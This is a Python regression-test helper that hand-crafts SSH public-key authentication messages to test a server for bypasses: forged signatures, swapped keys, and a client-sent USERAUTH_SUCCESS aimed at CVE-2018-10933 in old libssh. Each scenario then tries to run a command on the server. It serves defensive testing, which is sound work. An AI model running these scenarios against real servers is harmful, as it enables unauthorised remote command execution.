#!/usr/bin/env python3
"""Public-key authentication at the SSH message level, for auth_bypass_regression.sh.

Speaks SSH through paramiko's transport (key exchange, encryption), but writes
the user-authentication messages itself (RFC 4252), so it can send what no
well-behaved client sends: a signature that does not belong to the key it
names, a signed request for another key right after the server said "yes" to a
key query, or a bare SSH_MSG_USERAUTH_SUCCESS from the client.

    auth_bypass.py HOST PORT SCENARIO KEY_A KEY_B

KEY_A and KEY_B are unencrypted ed25519 private keys (OpenSSH format); only
KEY_A's public half is meant to be authorized. Scenarios:

    control        query A, then a request for A signed with A (what ssh does)
    other-key      query A (the server answers PK_OK), then a request for B
                   signed with B
    forged         query A, then a request naming A's public key whose
                   signature was made with B's private key
    forged-direct  the forged request, without the query first
    client-success a bare SSH_MSG_USERAUTH_SUCCESS sent by the client instead
                   of any request (CVE-2018-10933 in libssh < 0.7.6 / 0.8.4)

Every scenario then tries to open a session channel and run `apps:list`.
The outcome is printed as key=value lines, for the test to assert on:

    query=pk_ok|failure|...   the answer to the unsigned query (if sent)
    auth=success|failure ...|no-reply|disconnected|timeout|claimed
                              the answer to the signed request (if sent);
                              no-reply: none, though the server answered a
                              query sent after it (see Client.authenticate)
    exec=ok|refused           whether a channel + exec request got through
    exit=N                    the command's exit status (exec=ok only)
    stdout: ...               the command's output, line by line

Exit status: 0 when the scenario ran (whatever the server answered), 2 when
it could not (no connection, key exchange failed, bad arguments).
"""

import queue
import socket
import sys
import time

import paramiko
from paramiko.common import cMSG_SERVICE_REQUEST, cMSG_USERAUTH_REQUEST, cMSG_USERAUTH_SUCCESS
from paramiko.message import Message

MSG_SERVICE_ACCEPT = 6
MSG_USERAUTH_FAILURE = 51
MSG_USERAUTH_SUCCESS = 52
MSG_USERAUTH_BANNER = 53
MSG_USERAUTH_PK_OK = 60

USER = "git"
REPLY_TIMEOUT = 15  # seconds for each answer from the server


class RawAuth:
    """Stands in for paramiko's AuthHandler: the transport thread hands it
    every user-authentication (and service) message, which it only queues."""

    def __init__(self):
        self.replies = queue.Queue()
        types = [MSG_SERVICE_ACCEPT] + list(range(50, 80))
        # paramiko calls handler(auth_handler, m) (2.x) or handler(m) (3.x).
        self._handler_table = {t: self._queue_for(t) for t in types}
        self.authenticated = False

    def _queue_for(self, ptype):
        return lambda *args: self.replies.put((ptype, args[-1]))

    # What paramiko's Transport may ask of its auth handler.
    def is_authenticated(self):
        return self.authenticated

    def abort(self):
        self.replies.put((None, None))

    def wait(self, transport):
        """The next message type (banners skipped), or a word for why none came."""
        deadline = time.monotonic() + REPLY_TIMEOUT
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return "timeout", None
            try:
                ptype, m = self.replies.get(timeout=min(left, 0.5))
            except queue.Empty:
                if not transport.is_active():
                    return "disconnected", None
                continue
            if ptype is None:
                return "disconnected", None
            if ptype == MSG_USERAUTH_BANNER:
                continue
            return ptype, m


def load_key(path):
    return paramiko.Ed25519Key.from_private_key_file(path)


def sign(key, data):
    signature = key.sign_ssh_data(data)
    return signature.asbytes() if hasattr(signature, "asbytes") else bytes(signature)


def publickey_request(algorithm, blob, signature=None):
    m = Message()
    m.add_byte(cMSG_USERAUTH_REQUEST)
    m.add_string(USER)
    m.add_string("ssh-connection")
    m.add_string("publickey")
    m.add_boolean(signature is not None)
    m.add_string(algorithm)
    m.add_string(blob)
    if signature is not None:
        m.add_string(signature)
    return m


def signed_data(session_id, algorithm, blob):
    """What a publickey signature covers (RFC 4252 section 7)."""
    m = Message()
    m.add_string(session_id)
    m.add_byte(cMSG_USERAUTH_REQUEST)
    m.add_string(USER)
    m.add_string("ssh-connection")
    m.add_string("publickey")
    m.add_boolean(True)
    m.add_string(algorithm)
    m.add_string(blob)
    return m.asbytes()


def describe(ptype, m):
    if ptype == MSG_USERAUTH_PK_OK:
        return "pk_ok"
    if ptype == MSG_USERAUTH_SUCCESS:
        return "success"
    if ptype == MSG_USERAUTH_FAILURE:
        methods = m.get_text()
        partial = m.get_boolean()
        return "failure methods=%s partial=%d" % (methods, partial)
    if isinstance(ptype, str):
        return ptype
    return "message-%d" % ptype


def say(line):
    print(line, flush=True)


class Client:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.transport = paramiko.Transport(self.sock)
        self.transport.start_client(timeout=15)
        self.auth = RawAuth()
        self.transport.auth_handler = self.auth
        m = Message()
        m.add_byte(cMSG_SERVICE_REQUEST)
        m.add_string("ssh-userauth")
        self.transport._send_message(m)
        ptype, _ = self.auth.wait(self.transport)
        if ptype != MSG_SERVICE_ACCEPT:
            raise RuntimeError("ssh-userauth service not accepted: %s" % (ptype,))

    def post(self, m):
        """Sends m; False if the server has already hung up (also a refusal)."""
        try:
            self.transport._send_message(m)
            return True
        except (EOFError, OSError, paramiko.SSHException):
            return False

    def send(self, m):
        if not self.post(m):
            return "disconnected"
        return describe(*self.auth.wait(self.transport))

    def query(self, key):
        """Unsigned: 'would you accept this key?'"""
        return self.send(publickey_request(key.get_name(), key.asbytes()))

    def authenticate(self, named_key, signing_key, sentinel=None):
        """A signed request naming named_key, its signature made by signing_key.

        With sentinel (an authorized key), an unsigned query for it follows at
        once. The server handles requests in order, so if the sentinel's
        PK_OK is the first answer, the signed request got none at all
        ("no-reply"): libssh drops a request whose signature does not verify
        without answering it (RFC 4252 asks for USERAUTH_FAILURE), and this
        tells that apart from a slow answer without waiting for a timeout."""
        algorithm, blob = named_key.get_name(), named_key.asbytes()
        signature = sign(signing_key, signed_data(self.transport.session_id, algorithm, blob))
        if sentinel is None:
            return self.send(publickey_request(algorithm, blob, signature))
        if not self.post(publickey_request(algorithm, blob, signature)):
            return "disconnected"
        self.post(publickey_request(sentinel.get_name(), sentinel.asbytes()))
        first = describe(*self.auth.wait(self.transport))
        if first == "pk_ok":
            return "no-reply"
        if first.startswith("failure"):
            # and then the sentinel's answer, so nothing is left in flight
            describe(*self.auth.wait(self.transport))
        return first

    def claim_success(self):
        """Client-sent SSH_MSG_USERAUTH_SUCCESS; a correct server ignores or rejects it."""
        m = Message()
        m.add_byte(cMSG_USERAUTH_SUCCESS)
        # No answer is expected; the channel request that follows is
        # processed after it, in order.
        self.post(m)

    def exec(self, command):
        try:
            channel = self.transport.open_session(timeout=10)
        except Exception as e:  # ChannelException, SSHException, EOFError...
            say("exec=refused")
            say("exec_error=channel open: %s: %s" % (type(e).__name__, e))
            return
        try:
            channel.settimeout(30)
            channel.exec_command(command)
        except Exception as e:
            say("exec=refused")
            say("exec_error=exec request: %s: %s" % (type(e).__name__, e))
            return
        say("exec=ok")  # a channel, and the command accepted: already too much
        try:
            stdout = channel.makefile("rb").read()
            stderr = channel.makefile_stderr("rb").read()
            say("exit=%d" % channel.recv_exit_status())
        except Exception as e:
            say("exec_error=reading the output: %s: %s" % (type(e).__name__, e))
            return
        for line in stdout.decode(errors="replace").splitlines():
            say("stdout: " + line)
        for line in stderr.decode(errors="replace").splitlines():
            say("stderr: " + line)

    def close(self):
        try:
            self.transport.close()
        finally:
            self.sock.close()


def main(argv):
    if len(argv) != 6:
        print(__doc__, file=sys.stderr)
        return 2
    host, port, scenario, path_a, path_b = argv[1], int(argv[2]), argv[3], argv[4], argv[5]
    key_a, key_b = load_key(path_a), load_key(path_b)
    try:
        client = Client(host, port)
    except Exception as e:
        print("auth_bypass.py: could not set up SSH to %s:%d: %s: %s" % (host, port, type(e).__name__, e),
              file=sys.stderr)
        return 2
    say("scenario=" + scenario)
    try:
        if scenario == "control":
            say("query=" + client.query(key_a))
            say("auth=" + client.authenticate(key_a, key_a))
        elif scenario == "other-key":
            say("query=" + client.query(key_a))
            # B's signature is valid: the server can judge it and answers.
            say("auth=" + client.authenticate(key_b, key_b))
        elif scenario == "forged":
            say("query=" + client.query(key_a))
            say("auth=" + client.authenticate(key_a, key_b, sentinel=key_a))
        elif scenario == "forged-direct":
            say("auth=" + client.authenticate(key_a, key_b, sentinel=key_a))
        elif scenario == "client-success":
            client.claim_success()
            say("auth=claimed")
        else:
            print("auth_bypass.py: unknown scenario %s" % scenario, file=sys.stderr)
            return 2
        client.exec("apps:list")
    finally:
        client.close()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
